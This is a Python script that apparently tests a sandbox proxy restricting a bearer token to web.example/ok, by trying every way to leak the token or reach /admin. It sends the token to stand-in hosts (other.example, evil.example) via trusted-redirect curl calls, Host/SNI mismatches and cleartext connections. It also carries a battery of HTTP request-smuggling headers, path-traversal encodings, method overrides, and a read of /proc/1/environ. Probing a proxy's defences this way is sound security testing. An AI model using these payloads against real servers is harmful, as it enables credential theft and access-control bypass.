# A program that may use a secret at web.example, under /ok alone, and wants its value, or to reach /admin. Prints all that it got.
import os, socket, ssl, subprocess, sys

TOKEN, WEB, OTHER = os.environ['TOKEN'], '9.9.9.2', '9.9.9.3'
for name in ('web.example', 'sub.web.example', 'other.example', 'evil.example'):
    try:
        socket.getaddrinfo(name, 443)
    except OSError as e:
        print('no name', name, e)

anybody = ssl.create_default_context()
anybody.check_hostname = False
anybody.verify_mode = ssl.CERT_NONE
AUTH = 'Authorization: Bearer %s\r\n' % TOKEN


def tls(what, address, server_name, text, wait=3):
    try:
        with socket.create_connection((address, 443), wait) as s:
            with anybody.wrap_socket(s, server_hostname=server_name) as t:
                t.sendall(text.encode('latin1'))
                got = b''
                try:
                    while True:
                        b = t.recv(65536)
                        if not b:
                            break
                        got += b
                except OSError:
                    pass
                print(what, '->', got)
    except OSError as e:
        print(what, '->', type(e).__name__)


def plain(what, address, port, text):
    try:
        with socket.create_connection((address, port), 3) as s:
            s.sendall(text.encode('latin1'))
            print(what, '->', s.recv(65536))
    except OSError as e:
        print(what, '->', type(e).__name__)


def curl(what, *words):
    r = subprocess.run(['curl', '-sS', '-m', '5', '-k', *words], capture_output=True)
    print(what, '->', r.stdout, r.stderr)


def get(host='web.example', path='/ok', more=''):
    return 'GET %s HTTP/1.1\r\nHost: %s\r\n%s%sConnection: close\r\n\r\n' % (path, host, AUTH, more)


H = 'Authorization: Bearer ' + TOKEN
tls('as meant', 'web.example', 'web.example', get())
# Redirects, with a client that sends its credentials to whoever it is led to.
curl('redirect', '-L', '--location-trusted', '-H', H, 'https://web.example/ok?to=https://other.example/')
curl('redirect in clear', '-L', '--location-trusted', '-H', H, 'https://web.example/ok?to=http://other.example:8080/')
# One name at the door, another inside.
curl('host h1', '--http1.1', '-H', H, '-H', 'Host: other.example', 'https://web.example/ok')
curl('authority h2', '--http2', '-H', H, '-H', 'Host: other.example', 'https://web.example/ok')
curl('host there', '-H', H, '-H', 'Host: web.example', 'https://other.example/ok')
curl('address of the other', '-H', H, '--connect-to', 'web.example:443:%s:443' % OTHER, 'https://web.example/ok')
curl('name of the other', '-H', H, '--connect-to', 'web.example:443:evil.example:443', 'https://web.example/ok')
tls('sni other', WEB, 'other.example', get())
tls('sni none', WEB, None, get())
tls('sni there', OTHER, 'web.example', get())
tls('sub sni, host web', WEB, 'sub.web.example', get())
tls('two hosts', WEB, 'web.example', get(more='Host: other.example\r\n'))
tls('absolute', WEB, 'web.example', get(path='https://other.example/ok'))
# In clear, where anybody on the way can read it.
plain('in clear', 'web.example', 8080, get(host='web.example:8080'))
plain('in clear at 443', 'web.example', 443, get())
# Asking the server to say it back.
tls('trace', WEB, 'web.example', get().replace('GET', 'TRACE'))
tls('options', WEB, 'web.example', get().replace('GET', 'OPTIONS'))
# Requests in requests: /admin is not allowed.
inner = 'GET /admin HTTP/1.1\r\nHost: web.example\r\n%s\r\n' % AUTH
post = 'POST /ok HTTP/1.1\r\nHost: web.example\r\n%s' % AUTH
chunk = '%x\r\n%s\r\n0\r\n\r\n' % (len(inner), inner)
tls('pipelined', WEB, 'web.example', 'GET /ok HTTP/1.1\r\nHost: web.example\r\n\r\n' + inner)
for name, head in {
    'cl te': 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', 'te cl': 'Transfer-Encoding: chunked\r\nContent-Length: 5\r\n',
    'two cl': 'Content-Length: 0\r\nContent-Length: %d\r\n' % len(inner), 'cl list': 'Content-Length: 0, %d\r\n' % len(inner),
    'te space': 'Content-Length: %d\r\nTransfer-Encoding : chunked\r\n' % len(inner), 'te fold': 'Transfer-Encoding:\r\n chunked\r\n',
    'te twice': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', 'te x': 'Transfer-Encoding: xchunked\r\n',
    'te tab': 'Transfer-Encoding:\tchunked\r\nContent-Length: 3\r\n', 'bare lf': 'X: a\nContent-Length: 0\n\n', 'cl plus': 'Content-Length: +0\r\n',
    'cl hex': 'Content-Length: 0x0\r\n',
}.items():
    tls('smuggle ' + name, WEB, 'web.example', post + head + '\r\n' + '0\r\n\r\n' + inner)
    tls('smuggle chunk ' + name, WEB, 'web.example', post + head + '\r\n' + chunk + inner)
tls('chunk extension', WEB, 'web.example', post + 'Transfer-Encoding: chunked\r\n\r\n0;\n' + inner + '\r\n\r\n')
tls('trailers', WEB, 'web.example', post + 'Transfer-Encoding: chunked\r\nTrailer: X\r\n\r\n2\r\nab\r\n0\r\nX: %s\r\nHost: other.example\r\n\r\n' % TOKEN)
tls('header in header', WEB, 'web.example', get(more='X: a\rGET /admin HTTP/1.1\r\n'))
for path in ('/ok/../admin', '/ok/%2e%2e/admin', '/ok/..%2fadmin', '/ok/%252e%252e/admin', '/ok\\..\\admin', '//admin', '/ok/..;/admin', '/admin#/ok', '/admin?/ok', 'http://web.example/admin', '*'):
    tls('path ' + path, WEB, 'web.example', get(path=path))
tls('method', WEB, 'web.example', get().replace('GET', 'DELETE'))
tls('override', WEB, 'web.example', get(path='/admin', more='X-HTTP-Method-Override: GET\r\nX-Original-URL: /ok\r\n'))
tls('connect', WEB, 'web.example', 'CONNECT other.example:443 HTTP/1.1\r\nHost: web.example\r\n\r\n')
tls('h2c', WEB, 'web.example', get(more='Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n'))
tls('not http', WEB, 'web.example', 'SSH-2.0-x ' + TOKEN + '\r\n')
# What carries HTTP unread.
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.connect((WEB, 443))
    print('udp -> sent', u.send(b'x'))
except OSError as e:
    print('udp ->', type(e).__name__)
# What is around: the process and its sockets are none of ours.
print('fds', sorted(os.listdir('/proc/self/fd')))
print('env', [k for k in os.environ if 'VEDETTE' in k], open('/proc/1/environ').read().count('VEDETTE_PROXY'))
